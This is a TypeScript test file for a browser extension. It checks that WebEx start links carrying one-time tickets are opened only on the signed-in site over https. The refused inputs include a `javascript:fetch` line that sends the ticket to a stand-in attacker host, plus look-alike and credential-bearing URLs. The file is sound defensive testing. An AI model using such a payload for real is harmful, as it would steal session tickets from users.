import { beforeEach, describe, expect, it } from 'vitest';
import { fakeBrowser } from 'wxt/testing/fake-browser';
import { checkedTicketLink } from '../../../lib/background/start-link-check';
import { startMeeting } from '../../../lib/background/start-meeting';
import { ACME, signInAlice, testEnv } from './test-env';

const COMMAND = encodeURIComponent('https://acme.webex.com/acme/m.php?AT=HM&MK=123');

let t: ReturnType<typeof testEnv>;
beforeEach(async () => {
  t = testEnv();
  await signInAlice(t.env);
});

/** Starts meeting 123 with GethosturlMeeting answering `link`; the reply and the tabs after. */
async function startWith(link: string) {
  t.backend.hostUrl = async () => link;
  const before = await fakeBrowser.tabs.query({});
  const answer = await startMeeting(t.env, { meetingKey: '123' });
  return { answer, opened: (await fakeBrowser.tabs.query({})).length - before.length };
}

describe('the start link (one-time ticket) is opened only on the signed-in site over https', () => {
  it.each([
    [
      'plain http',
      `http://acme.webex.com/acme/p.php?AT=LI&TK=secret-1&MU=${COMMAND}`,
      'http://acme.webex.com',
    ],
    [
      'another host',
      `https://evil.example.test/acme/p.php?AT=LI&TK=secret-1`,
      'https://evil.example.test',
    ],
    [
      'another WebEx site',
      `https://other.webex.com/other/p.php?AT=LI&TK=secret-1`,
      'https://other.webex.com',
    ],
    [
      'a look-alike host',
      `https://acme.webex.com.evil.test/acme/p.php?AT=LI&TK=secret-1`,
      'https://acme.webex.com.evil.test',
    ],
    [
      'another port',
      `https://acme.webex.com:8443/acme/p.php?AT=LI&TK=secret-1`,
      'https://acme.webex.com:8443',
    ],
    [
      'credentials in the address',
      `https://x:y@acme.webex.com/acme/p.php?AT=LI&TK=secret-1`,
      'https://acme.webex.com',
    ],
    ['javascript:', `javascript:fetch('https://evil.test/?TK=secret-1')`, 'javascript:'],
  ])('%s: refused, nothing opened, the ticket never in the reply', async (_, link, shown) => {
    const { answer, opened } = await startWith(link);
    expect(opened).toBe(0);
    expect(answer).toMatchObject({ ok: false, error: { kind: 'unexpected' } });
    if (answer.ok) return;
    expect(answer.error.explanation.title).toBe('The start link was not opened');
    expect(answer.error.explanation.meaning).toContain(`a start link to ${shown},`);
    expect(answer.error.explanation.meaning).toContain('https://acme.webex.com');
    expect(JSON.stringify(answer)).not.toContain('secret-1');
  });

  it('opens the site’s own https link and answers without it', async () => {
    const link = `https://acme.webex.com/acme/p.php?AT=LI&TK=good-1&MU=${COMMAND}`;
    const { answer, opened } = await startWith(link);
    expect(answer).toEqual({ ok: true, value: { opened: true } });
    expect(opened).toBe(1);
    const tabs = await fakeBrowser.tabs.query({});
    expect(
      tabs.some((tab) => tab.url?.startsWith('https://acme.webex.com/acme/p.php?AT=LI&TK=good-1&')),
    ).toBe(true);
  });

  it('checks the host exactly: case of the host does not matter, a sub-domain does', () => {
    expect(checkedTicketLink('https://ACME.webex.com/acme/p.php?TK=1', ACME)).toBe(
      'https://ACME.webex.com/acme/p.php?TK=1',
    );
    expect(() => checkedTicketLink('https://x.acme.webex.com/acme/p.php?TK=1', ACME)).toThrow(
      /https:\/\/x\.acme\.webex\.com/,
    );
    expect(() => checkedTicketLink('not a link TK=1', ACME)).toThrow(/an address that is not one/);
  });
});
